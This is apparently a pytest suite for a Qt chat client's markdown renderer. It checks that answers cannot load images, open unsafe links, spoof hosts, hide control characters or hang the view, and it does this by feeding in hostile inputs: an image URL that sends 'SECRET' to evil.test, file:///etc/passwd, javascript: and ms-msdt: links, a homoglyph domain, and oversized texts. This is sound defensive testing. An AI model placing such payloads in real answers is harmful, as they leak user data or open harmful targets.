"""Nothing in an answer can load, open, hang or disguise anything."""

from __future__ import annotations

from dataclasses import replace

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QDesktopServices, QTextDocument, QTextFormat
from PySide6.QtWidgets import QLabel
from pytestqt.qtbot import QtBot

from nexu_desktop.domain.chat import Basis, Outcome
from nexu_desktop.domain.credits import Nanocredits, Usage
from nexu_desktop.domain.events import TurnFinished
from nexu_desktop.markup.characters import visible, visible_code
from nexu_desktop.markup.links import allowed, other_host
from nexu_desktop.ui import theme
from nexu_desktop.ui.chat_view.formats import Formats
from nexu_desktop.ui.chat_view.link_sheet import LinkSheet, full_address
from nexu_desktop.ui.chat_view.markdown import render_markdown
from nexu_desktop.ui.chat_view.paper import Paper
from nexu_desktop.ui.chat_view.view import ChatView
from tests.ui.chat_values import RECEIPT, answer, asked, click_text

pytestmark = pytest.mark.usefixtures("qapp")  # documents measure their text


def document(source: str) -> QTextDocument:
    result = QTextDocument()
    render_markdown(result, source, Formats(theme.LIGHT))
    return result


def anchors(doc: QTextDocument) -> list[str]:
    found, block = [], doc.begin()
    while block.isValid():
        pieces_ = block.begin()
        while not pieces_.atEnd():
            href = pieces_.fragment().charFormat().anchorHref()
            found += [href] if href else []
            pieces_ += 1
        block = block.next()
    return found


@pytest.mark.parametrize(
    "source",
    [
        '<img src="file:///etc/passwd">',
        "![x](file:///etc/passwd)",
        "![x](//host/share/a.png)",
        "![x](https://evil.test/?q=SECRET)",
        "[![x](https://evil.test/a.png)](https://evil.test)",
        "![x][r]\n\n[r]: https://evil.test/a.png",
        "| ![x](file:///etc/passwd) |\n|---|\n| <table background=file:///etc/passwd> |",
        "<picture><source srcset=//host/share></picture>",
    ],
)
def test_no_image_enters_a_document(source: str) -> None:
    """However an image is written, no image format is inserted."""
    doc = document(source)
    images = [
        f for f in doc.allFormats() if f.isImageFormat() or f.type() == QTextFormat.FormatType.ListFormat
    ]
    assert images == []
    assert "\ufffc" not in doc.toPlainText()


def test_image_becomes_words_with_its_host() -> None:
    """A reader sees that there is an image, and where it lies."""
    assert document("![x](https://evil.test/?q=1)").toPlainText() == "[image: x, evil.test]"
    assert document("![x](//host/share)").toPlainText() == "[image: x, host]"
    assert document("![x](file:///etc/passwd)").toPlainText() == "[image: x, file:]"


def test_raw_html_is_text() -> None:
    """Tags stand there as they were written."""
    source = '<b>bold</b> <img src="file:///x">'
    assert source == document(source).toPlainText()


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "vbscript:x",
        "file:///etc/passwd",
        "data:text/html,x",
        "ms-msdt:/x",
        "//host/s",
        "/x",
    ],
)
def test_only_web_and_mail_links_can_be_clicked(address: str) -> None:
    """Other targets are shown as text and carry no anchor."""
    doc = document(f"[label]({address})")
    assert anchors(doc) == []
    assert f"label ({address})" == doc.toPlainText()
    assert not allowed(address)


def test_web_and_mail_links_are_anchors() -> None:
    """Written and bare addresses; a file name is no address."""
    doc = document("[a](https://nexu.io/x) <mailto:a@nexu.io> http://b.test and main.py")
    assert anchors(doc) == ["https://nexu.io/x", "mailto:a@nexu.io", "http://b.test"]


def test_link_that_names_another_host_is_flagged() -> None:
    """The host it really goes to stands behind it."""
    assert document("[bank.example](https://evil.test/x)").toPlainText() == "bank.example [evil.test]"
    assert other_host("nexu.io", "https://www.nexu.io/a") == ""


def test_nothing_is_loaded() -> None:
    """A resource that Qt asks for is our own empty pixel, whatever its name."""
    image = Paper().resource(2, QUrl("file:///etc/passwd"))
    assert (image.width(), image.height()) == (1, 1)


def test_opening_needs_the_open_button(view: ChatView, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch) -> None:
    """A click on a link shows the whole address in punycode; only Open opens it."""
    opened: list[str] = []
    monkeypatch.setattr(
        QDesktopServices, "openUrl", lambda url: opened.append(url.toEncoded().data().decode())
    )
    view.show_conversation([answer("[here](https://api.opena\u0456.com/x)")])
    click_text(qtbot, view, "here")
    sheet = view.findChild(LinkSheet)
    assert isinstance(sheet, LinkSheet)
    assert sheet.address.startswith("https://api.xn--")
    assert opened == []
    qtbot.mouseClick(sheet.open_button, Qt.MouseButton.LeftButton)
    assert [sheet.address] == opened


def test_full_address_refuses_other_schemes() -> None:
    """The sheet judges again what the builder judged."""
    assert [full_address(a) for a in ("javascript:x", "file:///x", "smb://h/s")] == ["", "", ""]


def test_error_words_are_plain_text(view: ChatView) -> None:
    """A provider's sentence is shown letter by letter."""
    failed = replace(RECEIPT, outcome=Outcome.FAILED, basis=Basis.NONE, usage=Usage(), charged=Nanocredits(0))
    view.show_conversation([answer("", receipt=None, streaming=True)])
    view.take_events([TurnFinished("a", answer("", receipt=failed), failed, "<b>Busy</b>", "<img src=x>")])
    labels = {label.text(): label.textFormat() for label in view.findChildren(QLabel) if label.text()}
    assert Qt.TextFormat.PlainText == labels["<b>Busy</b>"]
    assert {Qt.TextFormat.PlainText} == set(labels.values())


def test_control_characters_are_seen() -> None:
    """Escape sequences and marks that turn the direction become visible."""
    assert visible_code("\x1b[2J\0\a") == "␛[2J␀␇"
    assert visible_code("a\u202eb") == "a⟨U+202E⟩b"
    assert visible("\ud800 \ufffc\r\n") == "� �\n"


@pytest.mark.parametrize(
    "text",
    [
        "x" * 5_000_000,
        "> " * 2_000 + "deep",
        "- " * 2_000 + "deep",
        "<table>" * 2_000,
        "[" * 50_000,
        "a\u0301" * 50_000,
        ("|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n") + ("|" + "b|" * 200 + "\n") * 500,
        "```\n" + "y" * 1_000_000,
        "\n" * 100_000,
    ],
    ids=["line", "quotes", "lists", "tables", "brackets", "marks", "wide table", "code line", "empty lines"],
)
def test_hostile_texts_do_not_hang(view: ChatView, text: str) -> None:
    """They are shown within the time limit of the suite, as an answer and as a question."""
    view.show_conversation([asked(text), answer(text)])
    assert len(view.transcript) == 2
